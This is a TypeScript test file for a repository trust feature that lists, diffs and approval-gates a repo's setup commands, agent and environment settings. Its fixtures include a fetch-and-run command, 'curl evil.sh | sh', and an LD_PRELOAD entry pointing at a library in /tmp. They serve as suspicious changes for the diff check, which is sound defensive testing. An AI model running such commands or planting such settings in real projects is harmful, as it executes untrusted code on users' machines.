import { describe, expect, it } from 'vitest';
import { configDiff, configLines, envEntries, needsApproval } from './trust';
import type { RepoConfigView } from './wire/RepoConfigView';
import type { RepoTrust } from './wire/RepoTrust';

const config = (over: Partial<RepoConfigView> = {}): RepoConfigView => ({
  setup: ['npm ci', 'npm run build'],
  copy: ['.env'],
  agent: 'claude',
  env: { NODE_ENV: 'development', LD_PRELOAD: '/tmp/x.so' },
  ...over,
});

describe('trust', () => {
  it('lists every setup command, the agent, every env entry and every copy pattern', () => {
    expect(configLines(config()).map((l) => `${l.section}: ${l.text}`)).toEqual([
      'setup: npm ci',
      'setup: npm run build',
      'agent: claude',
      'env: LD_PRELOAD=/tmp/x.so',
      'env: NODE_ENV=development',
      'copy: .env',
    ]);
    expect(configLines(config({ agent: null, setup: [], env: {}, copy: [] }))).toEqual([]);
    expect(envEntries(config({ env: { B: '2', A: '1' } }))).toEqual([['A', '1'], ['B', '2']]);
  });

  it('diffs the approved config against the current one', () => {
    const d = configDiff(config(), config({ setup: ['npm ci', 'curl evil.sh | sh'], env: { NODE_ENV: 'development' } }));
    expect(d.map((x) => `${x.kind} ${x.line.section}: ${x.line.text}`)).toEqual([
      'same setup: npm ci',
      'removed setup: npm run build',
      'added setup: curl evil.sh | sh',
      'same agent: claude',
      'removed env: LD_PRELOAD=/tmp/x.so',
      'same env: NODE_ENV=development',
      'same copy: .env',
    ]);
  });

  it('asks for approval only for an untrusted or changed config', () => {
    const t = (state: RepoTrust['state']) => ({ state }) as RepoTrust;
    expect([t('none'), t('trusted'), t('untrusted'), t('changed'), undefined].map(needsApproval)).toEqual([
      false, false, true, true, false,
    ]);
  });
});
